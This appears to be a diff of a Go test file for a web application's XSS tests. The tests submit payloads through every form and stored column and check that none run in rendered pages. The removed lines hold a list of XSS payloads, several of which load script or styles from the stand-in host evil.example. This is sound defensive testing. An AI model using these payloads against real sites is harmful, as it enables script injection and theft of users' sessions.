@@ -14,20 +14,6 @@ import (
 	"golang.org/x/net/html"
 )
 
-// payloads are stored in every text that people write, in the corpus's ways of
-// breaking out of a text, an attribute, an address or a script.
-var payloads = []string{
-	`<script>xss7()</script>`, `"><script src=//evil.example/xss7></script>`, `'><img src=x onerror=xss7()>`, `<svg/onload=xss7()>`,
-	`" onmouseover="xss7()" x="`, `' autofocus onfocus=xss7() '`, "`onclick=xss7()`", `javascript:xss7()`, `</textarea><script>xss7()</script>`,
-	`</title><script>xss7()</script>`, `</option></select><img src=x onerror=xss7()>`, `<iframe srcdoc="<script>xss7()</script>">`,
-	`<a href="javascript:xss7()">点</a>`, `<style>@import '//evil.example/xss7'</style>`, `<base href="//evil.example/xss7/">`,
-	`<meta http-equiv="refresh" content="0;url=javascript:xss7()">`, `<form action="//evil.example/xss7"><input name=a>`,
-	`<object data="data:text/html,<script>xss7()</script>">`, `<math><mi xlink:href="javascript:xss7()">`, `{{constructor.constructor('xss7()')()}}`,
-	`<img src=1 href=1 onerror="xss7()">`, `&lt;script&gt;xss7()&lt;/script&gt;`, `<!--><script>xss7()</script>-->`, `]]><script>xss7()</script>`,
-	`<scr<script>ipt>xss7()</script>`, "<script\x0c>xss7()</script>", `＜script＞xss7()＜/script＞`, `<details open ontoggle=xss7()>`,
-	`<div hx-get="//evil.example/xss7" hx-trigger="load">`, `<x style="background:url(//evil.example/xss7)">`, `<link rel=stylesheet href=//evil.example/xss7>`,
-}
-
 // ours are the elements and attributes that load or run something: each must
 // point at the site itself.
 var loads = map[string][]string{
@@ -110,7 +96,7 @@ func TestStoredTextsNeverRun(t *testing.T) {
 		t.Setenv("JULI_TEST_ENGINE", "sqlite") // pages are the same; the texts are written past SQLite's triggers
 	}
 	tn := newTown(t)
-	columns := tn.overwrite(t, programs, regexp.MustCompile(`.`), func(i int) string { return payloads[i%len(payloads)] })
+	columns := tn.poison(t)
 	pages, shown := 0, 0
 	for login, starts := range doors {
 		k := newClerk(t, tn)
@@ -142,7 +128,7 @@ func TestStoredTextsNeverRun(t *testing.T) {
 			}
 		})
 	}
-	t.Logf("%d columns poisoned, %d pages, shown %d times", columns, pages, shown)
+	t.Logf("%d payloads in %d columns, %d pages, shown %d times", len(payloads), columns, pages, shown)
 	if columns < 20 || pages < 150 || shown < 300 {
 		t.Errorf("%d columns, %d pages, %d payloads shown: too few", columns, pages, shown)
 	}
@@ -165,37 +151,42 @@ func TestTypedTextsNeverRun(t *testing.T) {
 		var all []htmlForm
 		visit(t, k.as(login), 1, starts, func(path string, a answer) { all = append(all, forms(path, a.body)...) })
 		done := map[string]bool{}
-		for i, f := range all {
+		for _, f := range all {
 			p := k.pattern(f.action)
 			if p == "" || p == "/logout" || done[p] {
 				continue
 			}
 			done[p] = true
-			values := url.Values{}
-			for j, field := range f.controls {
-				switch field.kind {
-				case "file", "checkbox":
-				case "hidden":
-					values.Set(field.name, field.value)
-				case "select", "radio":
-					values.Set(field.name, field.value)
-				default:
-					values.Set(field.name, payloads[(i+j)%len(payloads)])
+			for range 3 {
+				a := k.as(login).send(t, tn.typed(f))
+				sent++
+				back += strings.Count(a.body, "xss7")
+				if a.status >= 500 {
+					t.Errorf("%s as %q: %d", f.action, login, a.status)
 				}
-			}
-			a := k.as(login).send(t, sending{action: f.action, values: values, upload: f.upload})
-			sent++
-			back += strings.Count(a.body, "xss7")
-			if a.status >= 500 {
-				t.Errorf("%s as %q: %d", f.action, login, a.status)
-			}
-			for _, why := range faults(a.body) {
-				t.Errorf("%s as %q: %s", f.action, login, why)
+				for _, why := range faults(a.body) {
+					t.Errorf("%s as %q: %s", f.action, login, why)
+				}
 			}
 		}
 	}
 	t.Logf("%d forms sent, %d payloads came back", sent, back)
-	if sent < 30 || back < 60 {
+	if sent < 200 || back < 250 {
 		t.Errorf("%d forms, %d payloads: too few", sent, back)
 	}
+}
+
+// typed is a form with a payload in every field that takes a text.
+func (tn town) typed(f htmlForm) sending {
+	values := url.Values{}
+	for _, field := range f.controls {
+		switch field.kind {
+		case "file", "checkbox":
+		case "hidden", "select", "radio":
+			values.Set(field.name, field.value)
+		default:
+			values.Set(field.name, tn.next(1))
+		}
+	}
+	return sending{action: f.action, values: values, upload: f.upload}
 }
